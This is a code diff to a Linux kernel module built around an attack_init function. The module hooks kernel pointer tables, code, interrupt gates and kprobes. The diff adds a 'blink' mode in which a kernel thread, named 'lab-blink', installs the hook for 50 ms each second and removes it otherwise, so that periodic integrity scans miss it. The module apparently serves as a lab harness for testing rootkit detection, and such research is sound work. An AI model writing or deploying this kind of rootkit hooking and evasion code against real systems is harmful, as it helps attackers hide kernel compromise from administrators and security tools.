@@ -3,6 +3,7 @@
 // undoes it when it is unloaded.
 //
 // kind=pointer   at, was: replaces the pointer `was` in the table at `at` by a function here that calls the original
+// kind=blink     the same for 50 ms in every second
 // kind=code      at: writes a jump to a function here over the first bytes at `at`
 // kind=byte      at: turns over the lowest bit of the byte at `at`
 // kind=gate      at: lets the interrupt gate at `at` lead here
@@ -22,11 +23,13 @@
 #include <linux/vermagic.h>
 #include <linux/version.h>
 #include <linux/cred.h>
+#include <linux/delay.h>
 #include <linux/fdtable.h>
 #include <linux/fs.h>
 #include <linux/ftrace.h>
 #include <linux/keyboard.h>
 #include <linux/kprobes.h>
+#include <linux/kthread.h>
 #include <linux/netfilter.h>
 #include <linux/netfilter_ipv4.h>
 #include <linux/pid.h>
@@ -92,6 +95,30 @@ static int change_pointer(void)
 			return 0;
 		}
 	return -ESRCH;
+}
+
+/* A hook that is gone most of the time. */
+static int blink(void *unused)
+{
+	while (!kthread_should_stop()) {
+		change_pointer();
+		msleep(50);
+		write_anywhere(changed, before, changed_bytes);
+		msleep(950);
+	}
+	return 0;
+}
+static struct task_struct *blinker;
+
+static int start_blinking(void)
+{
+	int result = change_pointer();
+
+	if (result)
+		return result;
+	write_anywhere(changed, before, changed_bytes);
+	blinker = kthread_run(blink, NULL, "lab-blink");
+	return IS_ERR(blinker) ? PTR_ERR(blinker) : 0;
 }
 
 static void change_code(void)
@@ -243,6 +270,8 @@ static int __init attack_init(void)
 
 	if (is("pointer"))
 		return change_pointer();
+	if (is("blink"))
+		return start_blinking();
 	if (is("code"))
 		return change_code(), 0;
 	if (is("gate"))
@@ -275,6 +304,8 @@ module_init(attack_init);
 
 static void __exit attack_exit(void)
 {
+	if (blinker)
+		kthread_stop(blinker);
 	if (changed)
 		write_anywhere(changed, before, changed_bytes);
 	else if (is("kprobe"))
